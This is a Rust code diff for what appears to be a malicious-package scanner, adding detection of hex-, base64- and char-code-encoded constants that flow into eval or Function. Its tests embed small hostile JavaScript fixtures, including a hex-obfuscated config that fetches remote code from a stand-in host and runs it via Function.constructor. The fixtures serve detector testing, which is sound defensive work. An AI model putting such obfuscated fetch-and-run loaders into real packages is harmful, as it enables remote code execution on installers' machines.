@@ -76,6 +76,7 @@ pub(crate) fn build(program: &Program<'_>, env: &Env<'_>, lines: Lines<'_>) -> F
         depth: 0,
         func_syms: FastMap::default(),
         urls: 0,
+        encoded: 0,
         plus_depth: 0,
         aliases: Vec::new(),
         classes: Vec::new(),
@@ -113,6 +114,8 @@ struct Builder<'e, 's> {
     func_syms: FastMap<SymbolId, u32>,
     /// URL markers created so far (capped at [`MAX_URL_MARKERS`]).
     urls: u32,
+    /// Encoded-text markers created so far (capped at [`MAX_ENCODED_MARKERS`]).
+    encoded: u32,
     /// Depth of `+` expressions being built (see [`Builder::binary`]).
     plus_depth: u32,
     /// `(function symbol, name)`: names given to functions declared elsewhere, resolved
@@ -158,6 +161,10 @@ const SIGNING_LIBRARIES: &[&str] = &[
 
 /// Most URL markers per program: a bundle's URLs in docs and tables are not destinations.
 const MAX_URL_MARKERS: u32 = 16;
+/// Most [`SourceKind::EncodedText`] markers per program.
+const MAX_ENCODED_MARKERS: u32 = 32;
+/// Longest constant (bytes, or array elements) tried as encoded text.
+const MAX_ENCODED_LEN: usize = 256 * 1024;
 
 /// What the builder knows about a called API.
 enum Api {
@@ -681,6 +688,9 @@ impl<'s> Builder<'_, 's> {
                 }
             }
             Expression::ArrayExpression(a) => {
+                if let Some(n) = self.char_code_array(a, at) {
+                    return Some(n);
+                }
                 let parts: Vec<Option<Node>> = a
                     .elements
                     .iter()
@@ -709,7 +719,10 @@ impl<'s> Builder<'_, 's> {
 
     /// Markers in a constant string: a URL, a credential store name.
     fn literal(&mut self, s: &str, at: u32) -> Option<Node> {
-        if s.len() < 3 || s.len() > 400 {
+        if s.len() > 400 {
+            return self.encoded_text(s, at);
+        }
+        if s.len() < 3 {
             return None;
         }
         let lower = s.get(..6).unwrap_or(s).to_ascii_lowercase();
@@ -727,7 +740,59 @@ impl<'s> Builder<'_, 's> {
         }
         // A package data file's name (`'logo.png'`, `'assets/data.bin'`): a read whose path
         // carries it, in whatever function, returns package data.
-        data_file_name(s).then(|| self.source(SourceKind::DataFileName, at, s))
+        if data_file_name(s) {
+            return Some(self.source(SourceKind::DataFileName, at, s));
+        }
+        self.encoded_text(s, at)
+    }
+
+    /// An [`SourceKind::EncodedText`] marker for a constant that reads as text once hex- or
+    /// base64-decoded (at most [`MAX_ENCODED_MARKERS`] per program).
+    fn encoded_text(&mut self, s: &str, at: u32) -> Option<Node> {
+        if self.encoded >= MAX_ENCODED_MARKERS
+            || s.len() < crate::decode::MIN_ENCODED
+            || s.len() > MAX_ENCODED_LEN
+        {
+            return None;
+        }
+        let text = crate::decode::hex_text(s).or_else(|| crate::decode::base64_text(s))?;
+        self.encoded += 1;
+        let detail = crate::signal::truncate(&text, 60);
+        Some(self.source(SourceKind::EncodedText, at, &detail))
+    }
+
+    /// An [`SourceKind::EncodedText`] marker for a constant array of character codes that
+    /// reads as text (`[104, 116, 116, 112, …]`).
+    fn char_code_array(&mut self, a: &ArrayExpression<'_>, at: u32) -> Option<Node> {
+        if self.encoded >= MAX_ENCODED_MARKERS
+            || a.elements.len() < 8
+            || a.elements.len() > MAX_ENCODED_LEN
+            || !a
+                .elements
+                .iter()
+                .all(|e| matches!(e, ArrayExpressionElement::NumericLiteral(_)))
+        {
+            return None;
+        }
+        let codes: Vec<f64> = a
+            .elements
+            .iter()
+            .filter_map(|e| match e {
+                ArrayExpressionElement::NumericLiteral(n) => Some(n.value),
+                _ => None,
+            })
+            .collect();
+        // Printable ASCII only: byte tables, colour tables and lookup tables are not text.
+        if !codes
+            .iter()
+            .all(|&c| c.fract() == 0.0 && ((32.0..127.0).contains(&c) || c == 10.0))
+        {
+            return None;
+        }
+        let text = crate::decode::char_codes(&codes, 0)?;
+        self.encoded += 1;
+        let detail = crate::signal::truncate(&text, 60);
+        Some(self.source(SourceKind::EncodedText, at, &detail))
     }
 
     fn ident(&mut self, id: &IdentifierReference<'_>, e: &Expression<'_>) -> Option<Node> {
@@ -766,10 +831,29 @@ impl<'s> Builder<'_, 's> {
                 "ethereum.selectedAddress" => (SourceKind::Wallet, g),
                 _ => return Some(None),
             },
+            // A member of one of the package's own modules (`cfg.remote` of
+            // `require('./config')`) is that module's exported data: followed through the
+            // import, not a library API.
+            v @ Val::Module(..) if !is_external(&v) => return self.own_member(e),
             Val::Module(..) | Val::Element(_) => return Some(None),
             _ => return None,
         };
         Some(Some(self.source(kind, at, &detail)))
+    }
+
+    /// `cfg.remote.url` where `cfg` is one of the package's own modules (`require('./config')`):
+    /// the module's exports reach the read along a [`crate::flow::OWN_MEMBER`] edge, which
+    /// passes hidden constants only (see there).
+    fn own_member(&mut self, e: &Expression<'_>) -> Option<Option<Node>> {
+        let m = e.without_parentheses().as_member_expression()?;
+        let b = match m.object().without_parentheses() {
+            o @ (Expression::StaticMemberExpression(_)
+            | Expression::ComputedMemberExpression(_)) => self.member(o),
+            o => self.expr(o),
+        }?;
+        let r = self.node();
+        self.edge(b, r, crate::flow::OWN_MEMBER, e.span().start);
+        Some(Some(r))
     }
 
     fn member(&mut self, e: &Expression<'_>) -> Option<Node> {
@@ -1211,6 +1295,19 @@ impl<'s> Builder<'_, 's> {
         let result = self.node();
         let arg_nodes: Vec<Node> = args.iter().map(|a| a.unwrap_or(VOID)).collect();
         self.call_site(callee_node, arg_nodes, result, at);
+        // `client[verb](url, opts)` with a method name the folder cannot compute (it comes
+        // from another module or from data): an unknown library call as far as anyone can
+        // tell, so its arguments and receiver reach its result as for a named method (a
+        // local dispatch table is still linked through the call site above).
+        if let Some(m) = member
+            && matches!(m, MemberExpression::ComputedMemberExpression(_))
+        {
+            let mut parts = self.data_args(arguments, &args);
+            parts.push(recv);
+            for p in parts.into_iter().flatten() {
+                self.edge(p, result, "", at);
+            }
+        }
         // `q('input')`, `$$('input[type=password]')`: a constant CSS selector handed to the
         // page's own query helper (a wrapper of `querySelectorAll`) selects what it names.
         if let Some(Expression::StringLiteral(sel)) = arguments
@@ -2360,7 +2457,7 @@ fn api_of(callee: &Val, args: &[Argument<'_>], env: &Env<'_>) -> Api {
 
 fn module_api(m: &str, p: &str, args: &[Argument<'_>], env: &Env<'_>) -> Api {
     let last = p.rsplit('.').next().unwrap_or(p);
-    if m == "dns" {
+    if m == "dns" || m == "dns/promises" {
         return if last.starts_with("resolve") || last == "lookup" || last == "lookupService" {
             Api::Dns
         } else {
@@ -3026,6 +3123,74 @@ mod tests {
         p.iter()
             .find(|x| x.source == source && x.sink == sink)
             .cloned()
+    }
+
+    #[test]
+    fn hex_config_decoded_by_a_helper_of_another_module_reaches_function() {
+        // The config module exports hex strings decoded by a local helper; the entry loads a
+        // module and calls a method both named by that config, and compiles the answer.
+        let p = paths(&[
+            (
+                "lib/config.js",
+                "const unpack = (h) => Buffer.from(h, 'hex').toString('utf8');\nmodule.exports = { remote: { lib: unpack('6178696f73'), verb: unpack('676574'), url: unpack('68747470733a2f2f782e6578616d706c652f61') } };\n",
+            ),
+            (
+                "index.js",
+                "const cfg = require('./lib/config');\n(async () => {\n  const r = cfg.remote;\n  const client = require(r.lib);\n  const res = await client[r.verb](r.url);\n  new (Function.constructor)('require', res.data.cookie)(require);\n})();\n",
+            ),
+        ]);
+        let f =
+            has(&p, SourceKind::Decoded, SinkKind::Eval).expect("decoded config reaches Function");
+        assert_eq!((f.from.file.as_str(), f.to.line), ("lib/config.js", 6));
+        assert!(
+            f.from.what.contains("https://x.example/a"),
+            "{}",
+            f.from.what
+        );
+        assert!(f.flags & crate::flow::flags::NODE_SCOPE != 0);
+        // A char-code table of another module decoded in a helper is the same.
+        let p = paths(&[
+            (
+                "lib/t.js",
+                "exports.t = [114, 101, 113, 117, 105, 114, 101, 40, 39, 102, 115, 39, 41];\n",
+            ),
+            (
+                "index.js",
+                "const { t } = require('./lib/t');\nconst s = (a) => String.fromCharCode(...a);\neval(s(t));\n",
+            ),
+        ]);
+        assert!(
+            has(&p, SourceKind::Decoded, SinkKind::Eval).is_some(),
+            "{p:?}"
+        );
+    }
+
+    #[test]
+    fn own_module_members_pass_hidden_constants_only() {
+        // Benign look-alikes: a config module holding the environment and a hex digest: a
+        // property read of it carries neither the environment nor a "decoded" digest.
+        let p = paths(&[
+            (
+                "lib/config.js",
+                "module.exports = { env: process.env, digest: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' };\n",
+            ),
+            (
+                "index.js",
+                "const cfg = require('./lib/config');\nconst https = require('https');\nhttps.request('https://api.example.com/v1', { method: 'POST' }).end(JSON.stringify(cfg.env));\neval(Buffer.from(cfg.digest, 'hex').toString());\n",
+            ),
+        ]);
+        assert!(
+            has(&p, SourceKind::EnvAll, SinkKind::Network).is_none(),
+            "{p:?}"
+        );
+        assert!(
+            has(&p, SourceKind::EnvSecret, SinkKind::Network).is_none(),
+            "{p:?}"
+        );
+        assert!(
+            has(&p, SourceKind::Decoded, SinkKind::Eval).is_none(),
+            "{p:?}"
+        );
     }
 
     #[test]
